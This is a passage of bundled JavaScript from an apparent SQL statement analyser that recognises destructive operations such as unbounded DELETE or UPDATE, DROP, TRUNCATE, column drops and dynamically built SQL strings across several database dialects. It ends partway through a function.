var NOT_AN_UPDATE_BEFORE = /* @__PURE__ */ new Set(["STATISTICS", "OF", "ON", "SET", "AS", "TO"]);
var DML_MODIFIERS = /* @__PURE__ */ new Set(["LOW_PRIORITY", "QUICK", "IGNORE", "DELAYED", "HIGH_PRIORITY", "OVERWRITE"]);
var INSERT_CONFLICT = /* @__PURE__ */ new Set(["REPLACE", "IGNORE", "ABORT", "FAIL", "ROLLBACK"]);
var AFTER_CONDITION = ["ORDER", "LIMIT", "RETURNING", "OPTION", "GROUP", "FETCH"];
function readDelete(scan, i) {
  if (scan.claimed.has(i) || !startsDml(scan, i, NOT_A_DELETE_BEFORE)) return;
  let j = skipTargetModifiers(scan, i + 1);
  if (scan.isWord(j, "FROM")) j++;
  if (scan.isWord(j, "ONLY")) j++;
  const name = scan.readName(j);
  if (!name) return;
  const end = scan.statementEnd(i, true);
  const where = whereBound(scan, name.end, end);
  emitDml(scan, "delete", i, name, where === "none" ? innerJoinBound(scan, name.end, end) : where);
}
function readUpdate(scan, i) {
  if (scan.claimed.has(i) || !startsDml(scan, i, NOT_AN_UPDATE_BEFORE)) return;
  let j = skipTargetModifiers(scan, i + 1);
  if (scan.isWord(j, "ONLY")) j++;
  const name = scan.readName(j);
  if (!name) return;
  const set = scan.scanTo(name.end, (k) => scan.isWord(k, "SET") || scan.startsStatement(k, false));
  if (!scan.isWord(set, "SET")) return;
  const where = whereBound(scan, set + 1, scan.statementEnd(set, true));
  emitDml(scan, "update", i, name, where === "none" ? innerJoinBound(scan, name.end, set) : where);
}
var NON_BOUNDING_JOIN = /* @__PURE__ */ new Set(["LEFT", "RIGHT", "FULL", "OUTER", "CROSS", "NATURAL"]);
function innerJoinBound(scan, from, end) {
  let bound = "none";
  for (let j = from; j < end; ) {
    const join = scan.scanTo(j, (k) => k >= end || scan.isWord(k, "JOIN", "STRAIGHT_JOIN"));
    if (join >= end || !scan.isWord(join, "JOIN", "STRAIGHT_JOIN")) break;
    const on = scan.scanTo(join + 1, (k) => k >= end || scan.isWord(k, "ON", "USING", "JOIN", "STRAIGHT_JOIN"));
    j = on + 1;
    if (NON_BOUNDING_JOIN.has(scan.upper(join - 1)) || on >= end) continue;
    if (scan.isWord(on, "USING")) {
      bound = "bounded";
      continue;
    }
    if (!scan.isWord(on, "ON")) continue;
    const conditionEnd = scan.scanTo(
      on + 1,
      (k) => k >= end || scan.isWord(k, "JOIN", "STRAIGHT_JOIN", "SET", "WHERE")
    );
    if (conditionTruth(scan, on + 1, Math.min(conditionEnd, end)) !== true) bound = "bounded";
    else if (bound === "none") bound = "tautology";
  }
  return bound;
}
function emitDml(scan, op, i, name, where) {
  scan.emit({ op, table: name.parts, where, span: scan.span(i) });
  scan.reference(name);
}
function startsDml(scan, i, notBefore) {
  if (NOT_A_STATEMENT_AFTER.has(scan.upper(i - 1))) return false;
  const next = scan.at(i + 1);
  if (!next || next.kind === "punct" || next.kind === "op") return false;
  return !notBefore.has(scan.upper(i + 1));
}
function skipTargetModifiers(scan, from) {
  let j = from;
  while (DML_MODIFIERS.has(scan.upper(j))) j++;
  if (scan.isWord(j, "TOP")) {
    j = scan.after(j + 1);
    if (scan.isWord(j, "PERCENT")) j++;
  }
  return j;
}
function whereBound(scan, from, end) {
  const where = scan.scanTo(from, (k) => k >= end || scan.isWord(k, "WHERE"));
  if (where >= end || !scan.isWord(where, "WHERE")) return "none";
  const conditionEnd = scan.scanTo(where + 1, (k) => k >= end || scan.isWord(k, ...AFTER_CONDITION));
  return conditionTruth(scan, where + 1, Math.min(conditionEnd, end)) === true ? "tautology" : "bounded";
}
function readInsert(scan, i) {
  if (NOT_A_STATEMENT_AFTER.has(scan.upper(i - 1)) || scan.upper(i - 1) === "INSTEAD") return;
  let j = i + 1;
  while (DML_MODIFIERS.has(scan.upper(j))) j++;
  if (scan.isWord(j, "OR") && INSERT_CONFLICT.has(scan.upper(j + 1))) j += 2;
  const into = scan.isWord(j, "INTO", "TABLE");
  if (scan.isWord(i, "REPLACE") && !into) return;
  if (!into && scan.isWord(j, "ON", "AS", "VALUES", "SELECT", "DEFAULT", "OR", "TO")) return;
  const name = scan.readName(into ? j + 1 : j);
  if (!name) return;
  scan.reference(name);
  if (overwritesWholeTable(scan, i, j, name.end)) scan.emit({ op: "overwrite", table: name.parts, span: scan.span(i) });
}
function overwritesWholeTable(scan, insert, target, nameEnd) {
  let overwrite = false;
  for (let k = insert + 1; k < target; k++) if (scan.isWord(k, "OVERWRITE")) overwrite = true;
  if (!overwrite || scan.isWord(target, "DIRECTORY", "LOCAL")) return false;
  return !scan.isWord(nameEnd, "PARTITION");
}
function readMerge(scan, i) {
  if (scan.isOp(i - 1, "=")) return;
  const j = scan.isWord(i + 1, "INTO") ? i + 2 : i + 1;
  if (scan.isWord(j, "RANGE")) return;
  const name = scan.readName(j);
  if (name) scan.reference(name);
}

// src/parsers/sql/recognise-alter.ts
var DROPS_NO_COLUMN = wordSet(`
  CONSTRAINT INDEX KEY FOREIGN PRIMARY UNIQUE CHECK DEFAULT PERIOD SYSTEM ROW CLUSTERING SEARCH
  FULLTEXT SPATIAL EXPRESSION IDENTITY NOT ATTRIBUTE PROJECTION STATISTICS UNUSED
`);
var STATEMENT_OBJECTS = wordSet(`
  TABLE VIEW DATABASE SCHEMA SEQUENCE FUNCTION PROCEDURE PROC TRIGGER MATERIALIZED TYPE EXTENSION
  OWNED TEMPORARY EVENT USER ROLE
`);
var COLUMN_PROPERTY_DROPS = /* @__PURE__ */ new Set(["DEFAULT", "NOT", "IDENTITY", "EXPRESSION"]);
var CLAUSE_STARTS = wordSet(`
  ADD DROP ALTER MODIFY CHANGE RENAME DETACH ATTACH TRUNCATE SET RESET ENABLE DISABLE VALIDATE OWNER
  CLUSTER INHERIT NO REPLICA FORCE ALGORITHM LOCK ORDER CONVERT DEFAULT CHARACTER CHARSET COLLATE
  ENGINE AUTO_INCREMENT COMMENT WITH WITHOUT NOCHECK CHECK COALESCE REORGANIZE EXCHANGE ANALYZE
  OPTIMIZE REBUILD REPAIR REMOVE DISCARD IMPORT UPGRADE SWITCH OF NOT ROW_FORMAT KEY_BLOCK_SIZE
  PARTITION SPLIT MERGE MOVE TABLESPACE UNION INDEX
`);
var SQLSERVER_CLAUSE_STARTS = wordSet("ADD DROP ALTER WITH CHECK NOCHECK ENABLE DISABLE SWITCH SET REBUILD");
function readAlter(scan, i) {
  const kind = scan.isWord(i + 1, "FOREIGN") ? i + 2 : i + 1;
  if (scan.isWord(kind, "EXTENSION", "PUBLICATION")) {
    const member = scan.readName(kind + 1);
    if (member && scan.isWord(member.end, "DROP")) scan.claimed.add(member.end);
    return;
  }
  if (!scan.isWord(kind, "TABLE")) return;
  let j = scan.skipIfExists(kind + 1);
  if (scan.isWord(j, "ONLY")) j++;
  const name = scan.readName(j);
  if (!name) return;
  scan.reference(name);
  scan.lastAlterTable = name.parts;
  j = scan.isOp(name.end, "*") ? name.end + 1 : name.end;
  if (scan.isWord(j, "WITH") && scan.isWord(j + 1, "CHECK", "NOCHECK")) j += 2;
  if (scan.isWord(j, "ON") && scan.isWord(j + 1, "CLUSTER")) j = scan.readName(j + 2)?.end ?? j + 2;
  readClauses({ scan, table: name.parts }, j);
}
function readClauses(alter, from) {
  const scan = alter.scan;
  for (let j = from; j < scan.length; ) {
    const end = readClause(alter, j);
    if (end === void 0 || !scan.isPunct(end, ",")) return;
    j = end + 1;
  }
}
function readClause(alter, j) {
  const scan = alter.scan;
  if (alter.lastDrop && continuesDrop(alter, j)) return readDropItem(alter, alter.lastDrop.index, j);
  alter.lastDrop = void 0;
  switch (scan.upper(j)) {
    case "DROP":
      return readDropClause(alter, j);
    case "ALTER":
      return readAlterColumn(alter, j);
    case "MODIFY":
      return readModify(alter, j);
    case "CHANGE":
      return readChange(alter, j);
    case "RENAME":
      return readRename(alter, j);
    case "DETACH":
    case "TRUNCATE":
      return readPartitionClause(alter, j);
    case "DELETE":
    case "UPDATE":
      return readMutation(alter, j);
    case "CLEAR":
      return readClearColumn(alter, j);
    case "SWAP":
      return readSwap(alter, j);
    case "SET":
      return scan.isWord(j + 1, "UNUSED") ? readSetUnused(alter, j) : clauseEnd(scan, j + 1);
    default:
      return clauseEnd(scan, j + 1);
  }
}
function continuesDrop(alter, j) {
  const scan = alter.scan;
  if (scan.isKind(j, "quoted-ident")) return true;
  const word2 = scan.upper(j);
  if (word2 === "") return false;
  if (word2 === "COLUMN" || word2 === "CONSTRAINT") return true;
  return !(scan.dialect === "sqlserver" ? SQLSERVER_CLAUSE_STARTS : CLAUSE_STARTS).has(word2);
}
function readDropClause(alter, j) {
  const scan = alter.scan;
  const word2 = scan.upper(j + 1);
  if (STATEMENT_OBJECTS.has(word2) && scan.isKind(j + 2, "word", "quoted-ident")) return void 0;
  scan.claimed.add(j);
  if (word2 === "PARTITION" || word2 === "SUBPARTITION" || word2 === "PART") return readPartitions(alter, j, j + 2, false);
  if (word2 === "DETACHED" && scan.isWord(j + 2, "PARTITION", "PART")) return readPartitions(alter, j, j + 3, false);
  return readDropItem(alter, j, j + 1);
}
function readDropItem(alter, drop, at) {
  const scan = alter.scan;
  const word2 = scan.upper(at);
  const previous = alter.lastDrop;
  const column = word2 === "COLUMN" || !DROPS_NO_COLUMN.has(word2) && (previous?.column ?? true);
  alter.lastDrop = { index: drop, column };
  if (!column) return clauseEnd(scan, at + 1);
  const nameAt2 = scan.skipIfExists(word2 === "COLUMN" ? at + 1 : at);
  const name = scan.identifier(nameAt2);
  if (name === void 0) return clauseEnd(scan, at);
  scan.emit({ op: "drop-column", table: alter.table, column: name, span: scan.span(drop) });
  return clauseEnd(scan, nameAt2 + 1);
}
function readPartitionClause(alter, j) {
  const scan = alter.scan;
  if (!scan.isWord(j + 1, "PARTITION")) return clauseEnd(scan, j + 1);
  scan.claimed.add(j);
  return readPartitions(alter, j, j + 2, scan.isWord(j, "DETACH"));
}
function readPartitions(alter, keyword, from, detach) {
  const scan = alter.scan;
  const partitions = [];
  let j = from;
  for (; ; ) {
    if (scan.isWord(j, "ID") && scan.isKind(j + 1, "string")) j++;
    const name = scan.isKind(j, "number", "string") ? void 0 : scan.readName(j);
    if (name) partitions.push(name.parts.join("."));
    else if (scan.isKind(j, "number", "string")) partitions.push(scan.at(j).text);
    else break;
    j = name?.end ?? j + 1;
    if (!scan.isPunct(j, ",") || CLAUSE_STARTS.has(scan.upper(j + 1))) break;
    j++;
  }
  if (partitions.length) {
    scan.emit({ op: "drop-partition", table: alter.table, partitions, detach, span: scan.span(keyword) });
  }
  return clauseEnd(scan, j);
}
function readMutation(alter, j) {
  const scan = alter.scan;
  scan.claimed.add(j);
  const end = clauseEnd(scan, j + 1);
  const op = scan.isWord(j, "DELETE") ? "delete" : "update";
  const statementEnd = scan.statementEnd(j, false);
  scan.emit({ op, table: alter.table, where: whereBound(scan, j + 1, statementEnd), span: scan.span(j) });
  return end;
}
function readClearColumn(alter, j) {
  const scan = alter.scan;
  if (!scan.isWord(j + 1, "COLUMN")) return clauseEnd(scan, j + 1);
  const nameAt2 = scan.skipIfExists(j + 2);
  const column = scan.identifier(nameAt2);
  if (column !== void 0) {
    scan.emit({ op: "drop-column", table: alter.table, column, span: scan.span(j) });
  }
  return clauseEnd(scan, nameAt2 + 1);
}
function readSwap(alter, j) {
  const scan = alter.scan;
  if (!scan.isWord(j + 1, "WITH")) return clauseEnd(scan, j + 1);
  const other = scan.readName(j + 2);
  if (!other) return clauseEnd(scan, j + 2);
  scan.emit({ op: "swap-tables", tables: [alter.table, other.parts], span: scan.span(j) });
  return clauseEnd(scan, other.end);
}
function readSetUnused(alter, j) {
  const scan = alter.scan;
  let k = j + 2;
  if (scan.isWord(k, "COLUMN")) k++;
  const names = scan.isPunct(k, "(") ? range(k + 1, scan.partner(k)) : [k];
  for (const at of names) {
    const column = scan.isPunct(at, ",") ? void 0 : scan.identifier(at);
    if (column !== void 0) scan.emit({ op: "drop-column", table: alter.table, column, span: scan.span(j) });
  }
  return clauseEnd(scan, scan.isPunct(k, "(") ? scan.after(k) : k + 1);
}
function range(from, to) {
  return Array.from({ length: Math.max(0, to - from) }, (_, n) => from + n);
}
function readAlterColumn(alter, j) {
  const scan = alter.scan;
  const keyword = scan.isWord(j + 1, "COLUMN");
  const columnAt = keyword ? j + 2 : j + 1;
  const column = scan.identifier(columnAt);
  let typeAt = -1;
  if (scan.isWord(columnAt + 1, "TYPE")) typeAt = columnAt + 2;
  else if (scan.isWord(columnAt + 1, "SET") && scan.isWord(columnAt + 2, "DATA") && scan.isWord(columnAt + 3, "TYPE")) {
    typeAt = columnAt + 4;
  } else if (scan.dialect === "sqlserver" && keyword && !scan.isWord(columnAt + 1, "ADD", "DROP")) {
    typeAt = columnAt + 1;
  }
  const end = clauseEnd(scan, columnAt + 1);
  if (column === void 0 || typeAt < 0) return end;
  emitTypeChange(alter, j, column, typeAt, end);
  return end;
}
var MODIFY_NO_COLUMN = wordSet("TTL ORDER SETTING QUERY COMMENT SAMPLE STATISTICS PRIMARY SQL REFRESH");
function readModify(alter, j) {
  const scan = alter.scan;
  const keyword = scan.isWord(j + 1, "COLUMN");
  if (!keyword && MODIFY_NO_COLUMN.has(scan.upper(j + 1))) return clauseEnd(scan, j + 1);
  const columnAt = keyword ? scan.skipIfExists(j + 2) : j + 1;
  const column = scan.identifier(columnAt);
  const end = clauseEnd(scan, columnAt + 1);
  if (column !== void 0) emitTypeChange(alter, j, column, columnAt + 1, end);
  return end;
}
function readChange(alter, j) {
  const scan = alter.scan;
  const oldAt = scan.isWord(j + 1, "COLUMN") ? j + 2 : j + 1;
  const from = scan.identifier(oldAt);
  const to = scan.identifier(oldAt + 1);
  const end = clauseEnd(scan, oldAt + 2);
  if (from === void 0 || to === void 0) return end;
  emitTypeChange(alter, j, from, oldAt + 2, end);
  if (from.toLowerCase() !== to.toLowerCase()) {
    scan.emit({ op: "rename-column", table: alter.table, from, to, span: scan.span(j) });
  }
  return end;
}
function emitTypeChange(alter, keyword, column, typeAt, end) {
  const scan = alter.scan;
  const type = readType(scan, typeAt, end);
  if (!type.text) return;
  const usingAt = scan.scanTo(type.end, (k) => k >= end || scan.isWord(k, "USING"));
  const using = usingAt < end && scan.isWord(usingAt, "USING") ? scan.source(usingAt + 1, end) : void 0;
  scan.emit({
    op: "alter-column-type",
    table: alter.table,
    column,
    newType: type.text,
    ...using ? { using } : {},
    span: scan.span(keyword)
  });
}
function readRename(alter, j) {
  const scan = alter.scan;
  const end = clauseEnd(scan, j + 1);
  const span = scan.span(j);
  if (scan.isWord(j + 1, "TO", "AS")) {
    const to2 = scan.readName(j + 2);
    if (to2) scan.emit({ op: "rename-table", from: alter.table, to: to2.parts.join("."), span });
    return end;
  }
  if (scan.isWord(j + 1, "CONSTRAINT", "INDEX", "KEY")) return end;
  const fromAt = scan.isWord(j + 1, "COLUMN") ? j + 2 : j + 1;
  const from = scan.identifier(fromAt);
  const to = scan.isWord(fromAt + 1, "TO") ? scan.identifier(fromAt + 2) : void 0;
  if (from !== void 0 && to !== void 0) {
    scan.emit({ op: "rename-column", table: alter.table, from, to, span });
  } else if (from !== void 0 && fromAt === j + 1 && scan.dialect === "mysql") {
    scan.emit({ op: "rename-table", from: alter.table, to: from, span });
  }
  return end;
}
function clauseEnd(scan, from) {
  return scan.scanTo(from, (k) => {
    if (scan.isPunct(k, ",")) return true;
    if (!scan.isWord(k, "DROP")) return scan.startsStatement(k, false);
    if (!COLUMN_PROPERTY_DROPS.has(scan.upper(k + 1))) return true;
    scan.claimed.add(k);
    return false;
  });
}

// src/parsers/sql/recognise-create.ts
var TABLE_MODIFIERS = /* @__PURE__ */ new Set(["GLOBAL", "LOCAL", "TEMPORARY", "TEMP", "UNLOGGED", "TRANSIENT", "VOLATILE"]);
var INDEX_MODIFIERS = wordSet("UNIQUE CLUSTERED NONCLUSTERED FULLTEXT SPATIAL BITMAP COLUMNSTORE");
var NOT_COLUMNS = wordSet("CONSTRAINT PRIMARY FOREIGN UNIQUE CHECK KEY INDEX FULLTEXT SPATIAL EXCLUDE LIKE PERIOD");
var NOT_SELECT_INTO = wordSet("INSERT MERGE REPLACE UPDATE DELETE OUTPUT FETCH EXEC EXECUTE INTO FROM WHERE");
var SELECT_INTO_LOOKBACK = 1e3;
function readCreate(scan, i) {
  let j = scan.isWord(i + 1, "OR") && scan.isWord(i + 2, "REPLACE") ? i + 3 : i + 1;
  let temporary = false;
  while (TABLE_MODIFIERS.has(scan.upper(j))) {
    temporary ||= scan.isWord(j, "TEMPORARY", "TEMP");
    j++;
  }
  while (INDEX_MODIFIERS.has(scan.upper(j))) j++;
  if (scan.isWord(j, "INDEX")) {
    readIndexTable(scan, j + 1);
    return;
  }
  if (!scan.isWord(j, "TABLE")) return;
  const nameAt2 = scan.skipIfExists(j + 1);
  const name = scan.readName(nameAt2);
  if (!name) return;
  temporary ||= isSqlServerTemp(scan, name.parts);
  const columns = scan.isPunct(name.end, "(") ? readColumns(scan, name.end) : [];
  const ifNotExists = nameAt2 !== j + 1 ? { ifNotExists: true } : {};
  scan.emit({ op: "create-table", name: name.parts, temporary, columns, span: scan.span(i), ...ifNotExists });
  scan.reference(name);
}
function readIndexTable(scan, from) {
  for (let j = from; j < Math.min(from + 8, scan.length); j++) {
    if (!scan.isWord(j, "ON")) continue;
    const table = scan.readName(scan.isWord(j + 1, "ONLY") ? j + 2 : j + 1);
    if (table) scan.reference(table);
    return;
  }
}
function isGenerated(scan, from, end) {
  for (let k = from; k < end; k = scan.after(k)) {
    if (scan.isWord(k, "AS") && scan.isPunct(k + 1, "(")) return true;
  }
  return false;
}
function readColumns(scan, open) {
  const close = scan.partner(open);
  if (close < 0) return [];
  const columns = [];
  let start = open + 1;
  let angles = 0;
  for (let j = start; j <= close; j = scan.after(j)) {
    angles = Math.max(0, angles + angleChange(scan, j));
    if (j !== close && (angles > 0 || !scan.isPunct(j, ","))) continue;
    const name = scan.identifier(start);
    if (name !== void 0 && j > start && !NOT_COLUMNS.has(scan.upper(start))) {
      const type = readType(scan, start + 1, j);
      columns.push({ name, type: type.text, ...isGenerated(scan, type.end, j) ? { generated: true } : {} });
    }
    start = j + 1;
  }
  return columns;
}
function angleChange(scan, j) {
  if (scan.dialect !== "bigquery") return 0;
  if (scan.isOp(j, "<") && scan.isWord(j - 1, "ARRAY", "STRUCT", "RANGE")) return 1;
  if (scan.isOp(j, ">")) return -1;
  return scan.isOp(j, ">>") ? -2 : 0;
}
function readSelectInto(scan, i) {
  if (scan.dialect !== "sqlserver" && scan.dialect !== "postgres") return;
  let j = i + 1;
  let temporary = false;
  while (scan.isWord(j, "TEMP", "TEMPORARY", "UNLOGGED", "TABLE")) {
    temporary ||= scan.isWord(j, "TEMP", "TEMPORARY");
    j++;
  }
  const name = scan.isKind(j, "word", "quoted-ident") ? scan.readName(j) : void 0;
  if (!name || !followsSelect(scan, i)) return;
  temporary ||= isSqlServerTemp(scan, name.parts);
  scan.emit({ op: "create-table", name: name.parts, temporary, columns: [], span: scan.span(i) });
  scan.reference(name);
}
function followsSelect(scan, i) {
  let j = i - 1;
  for (let steps = 0; j >= 0 && steps < SELECT_INTO_LOOKBACK; steps++) {
    if (scan.isPunct(j, ")")) {
      j = scan.partner(j) - 1;
      if (j < -1) return false;
      continue;
    }
    if (scan.isPunct(j, "(") || scan.isPunct(j, ";")) return false;
    const word2 = scan.upper(j);
    if (word2 === "SELECT") return true;
    if (NOT_SELECT_INTO.has(word2)) return false;
    j--;
  }
  return false;
}
function isSqlServerTemp(scan, name) {
  return scan.dialect === "sqlserver" && (name.at(-1) ?? "").startsWith("#");
}

// src/parsers/sql/recognise-drop.ts
var SINGLE = {
  TABLE: "table",
  VIEW: "view",
  INDEX: "index",
  SEQUENCE: "sequence",
  FUNCTION: "function",
  TYPE: "type",
  EXTENSION: "extension",
  TRIGGER: "trigger",
  DATABASE: "database",
  SCHEMA: "schema",
  // CQL (Cassandra, Scylla, Keyspaces): a keyspace holds tables as a database does; a column family is a table.
  KEYSPACE: "database",
  COLUMNFAMILY: "table",
  PROCEDURE: "other",
  PROC: "other",
  ROUTINE: "other",
  EVENT: "other",
  DOMAIN: "other",
  AGGREGATE: "other",
  SYNONYM: "other"
};
var DOUBLE = {
  "MATERIALIZED VIEW": "materialized-view",
  "FOREIGN TABLE": "table",
  "EXTERNAL TABLE": "table",
  "SNAPSHOT TABLE": "table",
  "TABLE FUNCTION": "function",
  "AGGREGATE FUNCTION": "function",
  "SEARCH INDEX": "index",
  "VECTOR INDEX": "index"
};
function readDrop(scan, i) {
  if (scan.claimed.has(i)) return;
  if (scan.isWord(i + 1, "OWNED") && scan.isWord(i + 2, "BY")) {
    readDropOwned(scan, i);
    return;
  }
  if (scan.isWord(i + 1, "COLUMN")) {
    readStrayDropColumn(scan, i);
    return;
  }
  const target = dropTarget(scan, i + 1);
  if (!target) return;
  let j = scan.skipIfExists(target.next);
  if (target.objectType === "index" && scan.isWord(j, "CONCURRENTLY")) j = scan.skipIfExists(j + 1);
  const names = [];
  const tables = [];
  for (; ; ) {
    const name = scan.readName(j);
    if (!name) break;
    names.push(name);
    j = skipAfterName(scan, target.objectType, name.end, tables);
    if (!scan.isPunct(j, ",")) break;
    j++;
  }
  if (names.length === 0) return;
  const cascade = scan.isWord(j, "CASCADE");
  emitDrops(scan, i, target, names, cascade);
  tables.forEach((t) => scan.reference(t));
}
function dropTarget(scan, at) {
  let j = at;
  const temporary = scan.isWord(j, "TEMPORARY", "TEMP");
  if (temporary) j++;
  const double = DOUBLE[`${scan.upper(j)} ${scan.upper(j + 1)}`];
  if (double) return { objectType: double, next: j + 2, temporary };
  const single2 = SINGLE[scan.upper(j)];
  return single2 ? { objectType: single2, next: j + 1, temporary } : void 0;
}
function skipAfterName(scan, objectType, j, tables) {
  if ((objectType === "function" || objectType === "other") && scan.isPunct(j, "(")) return scan.after(j);
  const table = objectType === "index" && scan.isWord(j, "ON") ? scan.readName(j + 1) : void 0;
  if (!table) return j;
  tables.push(table);
  return table.end;
}
function emitDrops(scan, i, target, names, cascade) {
  const isTemp = (n) => target.objectType === "table" && scan.dialect === "sqlserver" && (n.parts.at(-1) ?? "").startsWith("#");
  const groups = target.temporary ? [names] : [names.filter((n) => !isTemp(n)), names.filter(isTemp)];
  groups.forEach((group, index) => {
    if (group.length === 0) return;
    const temporary = target.temporary || index === 1;
    const parts = group.map((n) => n.parts);
    scan.emit({ op: "drop", objectType: target.objectType, names: parts, temporary, cascade, span: scan.span(i) });
  });
  names.forEach((n) => scan.reference(n));
}
function readDropOwned(scan, i) {
  const roles = [];
  let j = i + 3;
  for (let role = scan.identifier(j); role !== void 0; role = scan.identifier(j)) {
    roles.push(role);
    if (!scan.isPunct(j + 1, ",")) break;
    j += 2;
  }
  if (roles.length) scan.emit({ op: "drop-owned", roles, span: scan.span(i) });
}
function readStrayDropColumn(scan, i) {
  const at = scan.skipIfExists(i + 2);
  const column = scan.identifier(at);
  if (column === void 0) return;
  scan.emit({ op: "drop-column", table: scan.lastAlterTable ?? [], column, span: scan.span(i) });
}
function readTruncate(scan, i) {
  if (scan.claimed.has(i) || NOT_A_STATEMENT_AFTER.has(scan.upper(i - 1))) return;
  if (scan.isPunct(i + 1, "(") || scan.isWord(i + 1, "ON", "TO")) return;
  let j = scan.isWord(i + 1, "TABLE") ? i + 2 : i + 1;
  const names = [];
  for (; ; ) {
    if (scan.isWord(j, "ONLY")) j++;
    const name = scan.readName(j);
    if (!name) break;
    names.push(name);
    j = scan.isOp(name.end, "*") ? name.end + 1 : name.end;
    if (!scan.isPunct(j, ",")) break;
    j++;
  }
  if (names.length === 0) return;
  scan.emit({ op: "truncate", tables: names.map((n) => n.parts), span: scan.span(i) });
  names.forEach((n) => scan.reference(n));
}

// src/parsers/sql/recognise-fold.ts
var MAX_NESTING2 = 32;
var MAX_STAND_IN = 200;
var STRING_FUNCTIONS = wordSet("CONCAT CONCAT_WS FORMAT REPLACE REVERSE CHAR CHR NCHAR UPPER LOWER UCASE LCASE");
function isConcatOp(scan, k) {
  return scan.isOp(k, "||", "+");
}
function mayStartString(scan, i) {
  const t = scan.at(i);
  if (!t) return false;
  if (t.kind === "string") return true;
  if (t.kind === "word" && scan.isPunct(i + 1, "(")) {
    return STRING_FUNCTIONS.has(t.upper) || isConcatOp(scan, scan.after(i + 1));
  }
  return (t.kind === "variable" || t.kind === "word" || t.kind === "quoted-ident") && isConcatOp(scan, i + 1);
}
function foldExpression(scan, from, nesting = 0) {
  const first = foldPiece(scan, from, nesting);
  if (!first) return void 0;
  const pieces = [first];
  for (let end = first.end; isConcatOp(scan, end); ) {
    const next = foldPiece(scan, end + 1, nesting);
    if (!next) break;
    pieces.push(next);
    end = next.end;
  }
  return pieces.length > 1 ? joinPieces(pieces, "", pieces.at(-1).end) : first;
}
function foldPiece(scan, i, nesting) {
  const t = scan.at(i);
  if (!t) return void 0;
  if (nesting > MAX_NESTING2) return opaque(scan, i, scan.isPunct(i + 1, "(") ? scan.after(i + 1) : scan.after(i));
  const known = (text, literal2, end) => ({
    text,
    literal: literal2,
    built: false,
    exact: true,
    end
  });
  switch (t.kind) {
    case "string":
      return known(t.value, true, i + 1);
    case "number":
      return known(t.text, false, i + 1);
    case "punct":
      return t.text === "(" ? foldGroup(scan, i, nesting + 1) : void 0;
    case "word":
      if (scan.isPunct(i + 1, "(")) return foldCall(scan, i, nesting + 1);
      return foldName(scan, i);
    case "variable":
    case "quoted-ident":
      return foldName(scan, i);
    default:
      return void 0;
  }
}
function foldGroup(scan, open, nesting) {
  const close = scan.partner(open);
  const inner = close > open ? foldExpression(scan, open + 1, nesting) : void 0;
  if (inner && inner.end === close) return { ...inner, end: close + 1 };
  return opaque(scan, open, scan.after(open));
}
function foldName(scan, i) {
  const name = scan.readName(i);
  const end = name?.end ?? i + 1;
  if (name?.parts.length === 1) {
    const value = scan.context.variables.get(name.parts[0].toLowerCase());
    if (value) return { text: value.text, literal: true, built: false, exact: true, end };
  }
  return opaque(scan, i, end);
}
function opaque(scan, from, to) {
  const source = scan.spanOf(from, to);
  const text = source.end - source.start > MAX_STAND_IN ? "dynamic_value" : scan.source(from, to);
  return { text, literal: false, built: false, exact: false, end: to };
}
function foldCall(scan, i, nesting) {
  const open = i + 1;
  const close = scan.partner(open);
  if (close < 0) return opaque(scan, i, i + 1);
  const args = foldArguments(scan, open + 1, close, nesting);
  const result = applyFunction(scan.upper(i), args, close + 1);
  return result ?? opaque(scan, i, close + 1);
}
function foldArguments(scan, from, close, nesting) {
  const args = [];
  let start = from;
  while (start < close) {
    const end = Math.min(
      scan.scanTo(start, (k) => scan.isPunct(k, ",")),
      close
    );
    const folded = foldExpression(scan, start, nesting);
    args.push(folded && folded.end === end ? folded : opaque(scan, start, end));
    start = end + 1;
  }
  return args;
}
function applyFunction(name, args, end) {
  const literal2 = args.some((a) => a.literal);
  const exact = args.every((a) => a.exact);
  const result = (text) => text === void 0 ? void 0 : { text, literal: literal2, built: literal2, exact, end };
  const [first, second, third] = args;
  switch (name) {
    case "CONCAT":
      return result(joinPieces(args, "", end).text);
    case "CONCAT_WS":
      return first ? result(joinPieces(args.slice(1), first.text, end).text) : void 0;
    case "FORMAT":
      return first?.literal && first.exact ? result(format(first.text, args.slice(1))) : void 0;
    case "REPLACE":
      return exact && first && second && third ? result(first.text.split(second.text).join(third.text)) : void 0;
    case "REVERSE":
      return exact && first ? result([...first.text].reverse().join("")) : void 0;
    case "CHAR":
    case "CHR":
    case "NCHAR":
      return exact && args.length ? result(charCodes(args)) : void 0;
    case "UPPER":
    case "UCASE":
      return first && { ...first, text: first.text.toUpperCase(), end };
    case "LOWER":
    case "LCASE":
      return first && { ...first, text: first.text.toLowerCase(), end };
    default:
      return void 0;
  }
}
function joinPieces(pieces, separator, end) {
  const parts = [];
  let last = "";
  pieces.forEach((piece, index) => {
    const previous = pieces[index - 1];
    if (previous) {
      const standIn = !previous.exact || !piece.exact;
      const touching = isWordChar(separator ? separator.at(-1) : last) && isWordChar(piece.text[0]);
      parts.push(separator + (standIn && touching ? " " : ""));
    }
    parts.push(piece.text);
    if (piece.text) last = piece.text.at(-1);
  });
  return {
    text: parts.join(""),
    literal: pieces.some((p) => p.literal),
    built: true,
    exact: pieces.every((p) => p.exact),
    end
  };
}
function isWordChar(c) {
  return c !== void 0 && /\w/.test(c);
}
function format(pattern, args) {
  let next = 0;
  return pattern.replace(/%(?:(\d+)\$)?-?\d*([%sILdtT])/g, (whole, position, kind) => {
    if (kind === "%") return "%";
    const arg = position ? args[Number(position) - 1] : args[next++];
    return arg ? arg.text : whole;
  });
}
function charCodes(args) {
  const codes = args.map((a) => Number(a.text));
  if (codes.some((c) => !Number.isInteger(c) || c < 0 || c > 1114111)) return void 0;
  return String.fromCodePoint(...codes);
}

// src/parsers/sql/recognise-dynamic.ts
var INNER_STATEMENT_LEADS = /* @__PURE__ */ new Set(["BEGIN", "THEN", "ELSE", "DO", "LOOP", "REPEAT"]);
function readBuiltString(scan, i) {
  if (i < scan.foldedUntil || !mayStartString(scan, i)) return;
  const folded = foldExpression(scan, i);
  if (!folded?.built || !folded.literal) return;
  scan.foldedUntil = folded.end;
  const span = scan.spanOf(i, folded.end);
  for (const op of scan.readSql(folded.text)) scan.emit({ ...op, span });
}
function readExecute(scan, i) {
  const next = i + 1;
  const label = scan.at(i).text.toUpperCase();
  if (scan.isWord(next, "IMMEDIATE")) {
    readExecuted(scan, i, next + 1, scan.expressionEnd(next + 1, "INTO", "USING"), `${label} IMMEDIATE`);
  } else if (scan.isPunct(next, "(")) {
    if (scan.partner(next) > next) readExecuted(scan, i, next + 1, scan.partner(next), label);
